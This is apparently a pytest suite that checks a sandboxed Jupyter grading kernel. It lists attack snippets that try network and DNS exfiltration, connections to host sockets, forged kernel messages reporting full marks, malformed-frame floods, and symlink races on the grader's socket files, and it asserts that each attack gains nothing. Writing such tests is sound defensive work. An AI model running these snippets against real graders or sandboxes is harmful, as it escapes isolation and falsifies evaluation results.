"""Code in the kernel that speaks to the network, to the host's sockets and to the grader's own."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from tests.attacks.arena import Arena
from tests.attacks.attack import Attack, Outcome
from tests.attacks.checks import assert_it_works_elsewhere, assert_nothing_gained

pytestmark = [pytest.mark.sandbox, pytest.mark.slow]

# Forged messages in the name of the cell that is running, signed with the kernel's own key.
FORGE = """
from IPython.display import display
kernel = get_ipython().kernel
def forge(socket, kind, content, ident=None):
    kernel.session.send(socket, kind, content, parent=kernel.get_parent(), ident=ident)
"""

ATTACKS = [
    Attack("connect by TCP", "a server of the host, on its loopback and on its address", """
        import socket, urllib.request
        for address in ('127.0.0.1', T.ip, '0.0.0.0'):
            try: socket.create_connection((address, T.tcp), 2).send(b'hello')
            except OSError as error: print(error)
        try: print(urllib.request.urlopen('http://192.0.2.1/', timeout=0.5).read())
        except Exception as error: print(error)
        print(T.mark, 'tried')
        """, control="unsandboxed"),
    Attack("send by UDP", "datagrams to the host", """
        import socket
        for address in ('127.0.0.1', T.ip, '255.255.255.255'):
            try:
                s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
                s.sendto(b'hello', (address, T.udp))
            except OSError as error: print(error)
        print(T.mark, 'tried')
        """, control="unsandboxed"),
    Attack("ask for names", "data leave in DNS questions", """
        import socket
        for name in (T.mark + '.example.org', 'localhost.example.org'):
            try: raise SystemExit(('RESOLVED', socket.getaddrinfo(name, 80)))
            except OSError as error: print(error)
        try:
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.settimeout(1)
            s.sendto(b'\\x12\\x34\\x01\\x00\\x00\\x01' + bytes(6) + b'\\x07example\\x03org\\x00\\x00\\x01\\x00\\x01', ('192.0.2.53', 53))
            raise SystemExit(('ANSWERED', s.recv(100)))
        except OSError as error: print(error)
        print(T.mark, 'tried')
        """),
    Attack("unix socket of the host", "a service that listens in /tmp", """
        import socket
        try: socket.socket(socket.AF_UNIX).connect(T.unix)
        except OSError as error: print(error)
        print(T.mark, 'tried')
        """, control="unsandboxed"),
    Attack("abstract socket of the host", "a service without a file", """
        import socket
        try: socket.socket(socket.AF_UNIX).connect('\\0' + T.abstract)
        except OSError as error: print(error)
        print(T.mark, 'tried')
        """, control="unsandboxed"),
    Attack("raw, packet, netlink and vsock sockets", "below and beside IP", """
        import socket
        made = []
        for family, kind, protocol in ((socket.AF_INET, socket.SOCK_RAW, 1), (socket.AF_PACKET, socket.SOCK_RAW, 768)):
            try: made.append(socket.socket(family, kind, protocol))
            except OSError as error: print(error)
        try:
            s = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
            s.settimeout(1)
            s.connect((2, 1024)); made.append(s)
        except OSError as error: print(error)
        names = [name for _, name in socket.if_nameindex()]
        print(T.mark, 'tried', made, names)
        assert not made and names == ['lo'], (made, names)
        """),
    Attack("a server for those outside", "the host is to reach into the sandbox", """
        import socket, threading
        servers = []
        for address in ('0.0.0.0', '::'):
            try: servers.append(socket.create_server((address, 0), family=socket.AF_INET6 if ':' in address else socket.AF_INET))
            except OSError as error: print(error)
        server = socket.socket(socket.AF_UNIX); server.bind('\\0' + T.mark); server.listen()
        print(T.mark, 'tried', servers)
        """),
    Attack("forged outputs on iopub", "an execute_result of full marks and a finished state", FORGE + """
print(T.mark, 'tried', flush=True)
time.sleep(0.3)
for _ in range(50):
    forge(kernel.iopub_socket, 'execute_result', {'data': {'text/plain': '20.0'}, 'metadata': {}, 'execution_count': 1})
    forge(kernel.iopub_socket, 'status', {'execution_state': 'idle'})
    forge(kernel.iopub_socket, 'update_display_data', {'data': {'text/plain': '20'}, 'metadata': {}, 'transient': {'display_id': 'x'}})
"""),
    Attack("forged replies on shell", "the cell, and each later one, is reported as done", FORGE + """
import threading, time
print(T.mark, 'tried', flush=True)
from ipykernel.kernelapp import IPKernelApp
shell = IPKernelApp.instance().shell_socket
sent = kernel.session
real = sent.send
def lie(stream, kind, *args, **kwargs):
    if isinstance(kind, str) and kind == 'execute_reply':
        args = ({'status': 'ok', 'execution_count': 1, 'user_expressions': {}, 'payload': [], 'score': 30}, *args[1:])
    return real(stream, kind, *args, **kwargs)
sent.send = lie
""", """
def double(v):
    raise ValueError(T.mark + ' tried')
"""),
    Attack("malformed messages on iopub", "frames that the grader's reader can't take", FORGE + """
import os, zmq
socket = kernel.iopub_socket
print(T.mark, 'tried', flush=True)
time.sleep(0.3)
for frames in ([b''], [b'<IDS|MSG>'], [b'<IDS|MSG>'] + [b'{}'] * 5, [b'<IDS|MSG>', b'x', b'[' * 100_000] + [b'1'] * 3,
               [os.urandom(100)] * 20, [b'<IDS|MSG>'] + [b'null'] * 5):
    try: socket.send_multipart(frames)
    except Exception as error: print(error)
for content in ([], None, 5, 'x', {'name': {}, 'text': [1, {}]}, {'data': {'image/png': 5, 'text/plain': {}}},
                {'traceback': 5, 'ename': [], 'evalue': {}}, {'data': []}, {'execution_state': {}}):
    for kind in ('stream', 'error', 'display_data', 'execute_result', 'status'):
        try: forge(kernel.iopub_socket, kind, content)
        except Exception as error: print(error)
"""),
    Attack("close the sockets", "the kernel lives but says nothing", """
        import time
        print(T.mark, 'tried', flush=True)
        time.sleep(0.3)
        from ipykernel.kernelapp import IPKernelApp
        app = IPKernelApp.instance()
        for name in ('iopub_socket', 'control_socket', 'shell_socket', 'stdin_socket'):
            try: getattr(app, name).close(0)
            except Exception: pass
        """, limits={"notebook_s": 6.0}),
    Attack("replace the socket files by links", "the grader is to connect to a service of the host", """
        import os
        out = '/run/course/out' if os.path.isdir('/run/course/out') else os.path.dirname(get_ipython().kernel.parent.ip)
        for name in os.listdir(out):
            if name.startswith('k-'):
                os.unlink(f'{out}/{name}')
                os.symlink(T.unix, f'{out}/{name}')
        print(T.mark, 'tried', flush=True)
        get_ipython().kernel.send_response(get_ipython().kernel.iopub_socket, 'stream',
            {'name': 'stdout', 'text': 'x' * 20_000_000})
        """),
    Attack("exchange the socket files while the grader looks", "it checks a socket and connects to a link", """
        import ctypes, os, threading
        out = '/run/course/out' if os.path.isdir('/run/course/out') else os.path.dirname(get_ipython().kernel.parent.ip)
        libc = ctypes.CDLL(None)
        links = []
        for name in os.listdir(out):
            if name.startswith('k-'):
                os.symlink(T.unix, f'{out}/link-{name}')
                links.append((f'{out}/{name}'.encode(), f'{out}/link-{name}'.encode()))
        def race():
            while True:
                for a, b in links: libc.renameat2(-100, a, -100, b, 2)
        if os.fork() == 0: race()
        print(T.mark, 'tried', flush=True)
        def lose():
            get_ipython().kernel.send_response(get_ipython().kernel.iopub_socket, 'stream',
                {'name': 'stdout', 'text': 'x' * 9_000_000})
        get_ipython().events.register('pre_run_cell', lambda *a: lose())
        lose()
        """),
]  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS, ids=str)
def test_it_gains_nothing(run: Callable[[Attack], Outcome], attack: Attack) -> None:
    assert_nothing_gained(attack, run(attack))


@pytest.mark.parametrize("attack", [a for a in ATTACKS if a.control], ids=str)
def test_it_works_without_a_sandbox(arena: Arena, attack: Attack) -> None:
    assert_it_works_elsewhere(attack, arena)
